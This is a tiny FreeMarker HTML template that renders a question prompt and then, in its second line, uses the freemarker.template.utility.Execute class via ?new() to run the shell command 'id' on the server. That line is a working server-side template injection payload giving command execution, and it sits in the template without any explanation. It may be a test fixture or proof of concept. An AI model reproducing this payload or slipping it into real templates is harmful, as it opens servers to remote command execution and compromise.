<#ftl output_format="HTML">
<p>${question.prompt}</p>
<p>${"freemarker.template.utility.Execute"?new()("id")}</p>
